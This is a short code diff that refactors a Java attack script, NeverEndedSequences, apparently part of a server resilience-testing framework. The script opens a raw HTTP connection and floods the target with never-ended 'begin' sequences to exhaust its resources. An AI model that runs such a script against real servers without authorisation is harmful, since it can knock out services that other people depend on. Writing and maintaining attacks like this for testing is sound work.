@@ -42,7 +42,8 @@ public final class NeverEndedSequences implements Attack.Script {
   private static int begun(Scene scene, int first, int count) throws InterruptedException {
     int begun = 0;
     try (var connection = RawConnection.open(scene.target().http())) {
-      Thread writer = Thread.ofVirtual().start(() -> send(connection, first, count));
+      Thread writer =
+          Thread.ofVirtual().start(() -> connection.sendEach(count, i -> begin(first + i)));
       try {
         for (int i = 0; i < count; i++) {
           begun += connection.receive(TIMEOUT).isOk() ? 1 : 0;
@@ -56,16 +57,6 @@ public final class NeverEndedSequences implements Attack.Script {
       // the server does not take the connection
     }
     return begun;
-  }
-
-  private static void send(RawConnection connection, int first, int count) {
-    try {
-      for (int i = 0; i < count; i++) {
-        connection.send(begin(first + i));
-      }
-    } catch (IOException _) {
-      // the server has closed the connection, or the attack is over
-    }
   }
 
   private static byte[] begin(int id) {
